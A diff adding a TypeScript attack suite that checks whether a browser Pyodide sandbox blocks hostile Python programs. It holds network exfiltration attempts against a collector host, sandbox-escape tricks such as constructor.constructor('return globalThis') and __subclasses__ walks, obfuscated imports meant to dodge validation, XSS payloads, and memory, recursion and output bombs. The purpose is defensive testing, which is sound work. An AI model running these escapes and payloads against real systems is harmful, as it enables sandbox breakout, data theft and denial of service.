@@ -1,0 +1,283 @@
+/**
+ * The attack suite's one table: hostile programs, each run through the real UI.
+ * A program prints "ESCAPED ..." whenever something it tried got through, and
+ * "blocked ..." when it did not. Add an attack by adding a row.
+ */
+
+/** Where attacks aim: the collector (another origin) and the app's own server, chat proxy included. */
+export interface Targets {
+  collector: string;
+  app: string;
+}
+
+/** One attack. */
+export interface Attack {
+  name: string;
+  /** Safe mode (SANDBOX_MODE) during the attack; off proves the browser boundary on its own. */
+  safeMode: boolean;
+  /** Extra settings before the run. */
+  setup?: { timeout?: string; memory?: string; forbiddenFunctions?: string };
+  code(t: Targets): string;
+  /** Final statuses the run may end in. */
+  status: string[];
+  /** Text the output must show (e.g. how the attack was stopped). */
+  expect?: RegExp[];
+  /** After the attack, a plain run must work (resource attacks). */
+  thenRunWorks?: boolean;
+}
+
+const urls = (t: Targets) => JSON.stringify([t.collector, `${t.app}/api/health`, `${t.app}/api/openai/v1/chat/completions`]);
+
+/** Python that tries `attempt` (an indented block using `url`) against every target. */
+const eachTarget = (t: Targets, label: string, attempt: string) =>
+  [
+    'import js',
+    `for url in ${urls(t)}:`,
+    '    try:',
+    attempt
+      .split('\n')
+      .map((l) => `        ${l}`)
+      .join('\n'),
+    `        print("ESCAPED ${label}", url)`,
+    '    except Exception as e:',
+    `        print("blocked ${label}", type(e).__name__)`,
+  ].join('\n');
+
+const network: Attack[] = [
+  { name: 'js.fetch', safeMode: false, code: (t) => eachTarget(t, 'fetch', 'await js.fetch(url)'), status: ['ok'], expect: [/blocked fetch[^]*blocked fetch[^]*blocked fetch/] },
+  {
+    name: 'pyodide.http.pyfetch',
+    safeMode: false,
+    code: (t) => `from pyodide.http import pyfetch\n${eachTarget(t, 'pyfetch', 'await pyfetch(url)')}`,
+    status: ['ok'],
+    expect: [/blocked pyfetch[^]*blocked pyfetch[^]*blocked pyfetch/],
+  },
+  {
+    name: 'pyodide.http.open_url (synchronous XHR)',
+    safeMode: false,
+    code: (t) => `from pyodide.http import open_url\n${eachTarget(t, 'open_url', 'open_url(url)')}`,
+    status: ['ok'],
+    expect: [/blocked open_url[^]*blocked open_url[^]*blocked open_url/],
+  },
+  {
+    name: 'XMLHttpRequest',
+    safeMode: false,
+    code: (t) => eachTarget(t, 'xhr', 'x = js.XMLHttpRequest.new()\nx.open("POST", url, False)\nx.send("secret")'),
+    status: ['ok'],
+    expect: [/blocked xhr[^]*blocked xhr[^]*blocked xhr/],
+  },
+  {
+    name: 'WebSocket',
+    safeMode: false,
+    code: (t) =>
+      [
+        'import js, asyncio',
+        `for url in ${JSON.stringify([t.collector.replace('http', 'ws'), t.app.replace('http', 'ws') + '/'])}:`,
+        '    try:',
+        '        ws = js.WebSocket.new(url)',
+        '        await asyncio.sleep(0.5)',
+        '        if ws.readyState == 1:',
+        '            print("ESCAPED websocket", url)',
+        '        else:',
+        '            print("blocked websocket state", ws.readyState)',
+        '    except Exception as e:',
+        '        print("blocked websocket", type(e).__name__)',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/blocked websocket[^]*blocked websocket/],
+  },
+  { name: 'importScripts', safeMode: false, code: (t) => eachTarget(t, 'importScripts', 'js.importScripts(url)'), status: ['ok'], expect: [/blocked importScripts[^]*blocked importScripts/] },
+  {
+    name: 'nested Worker (from a URL and from a blob that fetches)',
+    safeMode: false,
+    code: (t) =>
+      [
+        eachTarget(t, 'worker', 'js.Worker.new(url)'),
+        'from pyodide.ffi import to_js',
+        `blob = js.Blob.new(to_js(['fetch("${t.collector}blob-worker")']), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))`,
+        'w = js.Worker.new(js.URL.createObjectURL(blob))',
+        'import asyncio',
+        'await asyncio.sleep(1)',
+        'print("blob worker started; its fetch is checked by the collector")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/blocked worker[^]*blocked worker/],
+  },
+  {
+    name: 'navigator.sendBeacon and EventSource',
+    safeMode: false,
+    code: (t) => eachTarget(t, 'beacon', 'if not js.navigator.sendBeacon(url, "secret"):\n    raise RuntimeError("refused")\nes = js.EventSource.new(url)'),
+    status: ['ok'],
+    expect: [/blocked beacon[^]*blocked beacon[^]*blocked beacon/],
+  },
+  {
+    name: 'an <img>-style fetch through the JS side (no-cors, createImageBitmap)',
+    safeMode: false,
+    code: (t) =>
+      eachTarget(t, 'img', 'from pyodide.ffi import to_js\nr = await js.fetch(url, to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))\nawait js.createImageBitmap(await r.blob())'),
+    status: ['ok'],
+    expect: [/blocked img[^]*blocked img[^]*blocked img/],
+  },
+  { name: 'network in safe mode: refused before it runs', safeMode: true, code: (t) => eachTarget(t, 'fetch', 'await js.fetch(url)'), status: ['security'], expect: [/js-access/] },
+];
+
+const escapes: Attack[] = [
+  {
+    name: 'to_js([]).constructor.constructor("return globalThis")(): refused in safe mode',
+    safeMode: true,
+    code: () => 'from pyodide.ffi import to_js\ng = to_js([]).constructor.constructor("return globalThis")()\nprint("ESCAPED", g)',
+    status: ['security'],
+    expect: [/js-access/],
+  },
+  {
+    name: 'to_js([]).constructor.constructor("return globalThis")(): EvalError without safe mode',
+    safeMode: false,
+    code: () =>
+      'from pyodide.ffi import to_js\ntry:\n    g = to_js([]).constructor.constructor("return globalThis")()\n    print("ESCAPED", g)\nexcept Exception as e:\n    print("blocked", type(e).__name__, str(e)[:80])',
+    status: ['ok'],
+    expect: [/blocked JsException EvalError/],
+  },
+  {
+    name: 'the import hook holds when validate_code cannot see the import',
+    safeMode: true,
+    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
+    code: () => 'for name in ["py" + "odide.ffi", "j" + "s", "pyodide" + "_js", "micro" + "pip", "ctyp" + "es"]:\n    try:\n        __import__(name)\n        print("ESCAPED", name)\n    except ImportError as e:\n        print("blocked", type(e).__name__, e.rule)',
+    status: ['ok'],
+    expect: [/blocked SecurityViolation blocked-module[^]*blocked SecurityViolation module-allowlist/],
+  },
+  {
+    name: 'gc.get_objects() walk: refused in safe mode',
+    safeMode: true,
+    code: () => 'import gc\nfor o in gc.get_objects():\n    pass',
+    status: ['security'],
+    expect: [/import-not-allowed/],
+  },
+  {
+    name: 'gc.get_objects() walk to JS objects: still no network or storage',
+    safeMode: false,
+    code: (t) =>
+      [
+        'import gc, js',
+        'tried = 0',
+        'for o in gc.get_objects():',
+        '    if type(o).__name__.startswith("Js") and hasattr(o, "fetch"):',
+        '        tried += 1',
+        '        try:',
+        `            await o.fetch("${t.collector}gc")`,
+        '            print("ESCAPED gc fetch")',
+        '        except Exception as e:',
+        '            pass',
+        '        if tried > 5: break',
+        'print("gc walk done", tried)',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/gc walk done/],
+  },
+  {
+    name: '().__class__.__base__.__subclasses__(): refused in safe mode',
+    safeMode: true,
+    code: () => 'for c in ().__class__.__base__.__subclasses__():\n    print(c)',
+    status: ['security'],
+    expect: [/dunder-access/],
+  },
+  {
+    name: 'sys.modules restoration: refused in safe mode',
+    safeMode: true,
+    code: () => 'import sys\njs = sys.modules["js"]\nsys.modules["os"] = js\nprint("ESCAPED", js)',
+    status: ['security'],
+    expect: [/sys-modules/],
+  },
+  {
+    name: 'sys.modules through a computed getattr: the JS module is reachable, the network is not',
+    safeMode: true,
+    code: (t) =>
+      `import sys\nmods = getattr(sys, "mod" + "ules")\njs = mods.get("js") or mods.get("pyodide_js")\ntry:\n    await js.fetch("${t.collector}modules")\n    print("ESCAPED")\nexcept Exception as e:\n    print("blocked", type(e).__name__)`,
+    status: ['ok', 'error'],
+    expect: [/blocked|AttributeError|TypeError/],
+  },
+  {
+    name: 'importlib tricks',
+    safeMode: true,
+    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
+    code: () => 'try:\n    il = __import__("import" + "lib")\n    il.import_module("js")\n    print("ESCAPED")\nexcept ImportError as e:\n    print("blocked", type(e).__name__, e.module)',
+    status: ['ok'],
+    expect: [/blocked SecurityViolation importlib/],
+  },
+];
+
+const storage: Attack[] = [
+  {
+    name: 'IndexedDB, Cache Storage, cookies and localStorage',
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'async def attempt(label, fn):',
+        '    try:',
+        '        await fn()',
+        '        print("ESCAPED", label)',
+        '    except Exception as e:',
+        '        print("blocked", label, type(e).__name__)',
+        'async def idb():',
+        '    js.indexedDB.open("steal")',
+        'async def cache():',
+        '    c = await js.caches.open("steal")',
+        'async def cookies():',
+        '    await js.cookieStore.set("steal", "1")',
+        'async def local():',
+        '    js.localStorage.setItem("steal", "1")',
+        'for label, fn in [("indexedDB", idb), ("caches", cache), ("cookieStore", cookies), ("localStorage", local)]:',
+        '    await attempt(label, fn)',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/blocked indexedDB[^]*blocked caches[^]*blocked cookieStore[^]*blocked localStorage/],
+  },
+];
+
+const hostPage: Attack[] = [
+  {
+    name: 'forged postMessage with HTML payloads is dropped',
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'payload = {"type": "output", "id": 1, "chunks": [{"stream": "stdout", "text": "<img src=x onerror=\\"document.title=1\\">FORGED"}]}',
+        'for label, target in [("self", js.self), ("globalThis", js.globalThis), ("prototype", js.Object.getPrototypeOf(js.self))]:',
+        '    try:',
+        '        target.postMessage(payload)',
+        '        print("ESCAPED post", label)',
+        '    except Exception as e:',
+        '        print("blocked post", label, type(e).__name__)',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/blocked post self[^]*blocked post globalThis[^]*blocked post prototype/],
+  },
+  {
+    name: 'output with <script> and <img onerror> is shown as text',
+    safeMode: true,
+    code: () => 'print(\'<script>document.title="pwned"</script>\')\nprint(\'<img src=x onerror="document.title=\\\'pwned\\\'">\')',
+    status: ['ok'],
+    expect: [/<script>document.title="pwned"<\/script>/, /<img src=x onerror=/],
+  },
+];
+
+const resources: Attack[] = [
+  { name: 'memory bomb', safeMode: true, setup: { memory: '256' }, code: () => 'x = bytearray(1024 * 2**20)', status: ['memory'], thenRunWorks: true },
+  { name: 'recursion bomb', safeMode: true, code: () => 'def f(n):\n    return f(n + 1)\nf(0)', status: ['error'], expect: [/RecursionError/], thenRunWorks: true },
+  { name: 'output flood', safeMode: true, code: () => 'for i in range(300000):\n    print("flood", i)', status: ['ok'], expect: [/output truncated/], thenRunWorks: true },
+  {
+    name: 'infinite loop that swallows KeyboardInterrupt',
+    safeMode: true,
+    setup: { timeout: '2' },
+    code: () => 'while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass',
+    status: ['timeout'],
+    thenRunWorks: true,
+  },
+  { name: 'a huge single line', safeMode: true, code: () => 'print("A" * 50_000_000)', status: ['ok'], expect: [/output truncated/], thenRunWorks: true },
+  { name: 'deep nesting in the parser: refused in safe mode', safeMode: true, code: () => `x = ${'['.repeat(150)}${']'.repeat(150)}`, status: ['security'], expect: [/too-complex/], thenRunWorks: true },
+  // Chromium's worker stack is deeper than Node's: the parser may cope (ok), refuse (SyntaxError) or crash the interpreter (replaced).
+  { name: 'deep nesting in the parser without safe mode', safeMode: false, code: () => `x = ${'['.repeat(199)}${']'.repeat(199)}\ny = ${'('.repeat(5000)}`, status: ['ok', 'crashed', 'error'], thenRunWorks: true },
+];
+
+/** Every attack, by group. */
+export const ATTACKS: Record<string, Attack[]> = { network, escapes, storage, 'host page': hostPage, resources };
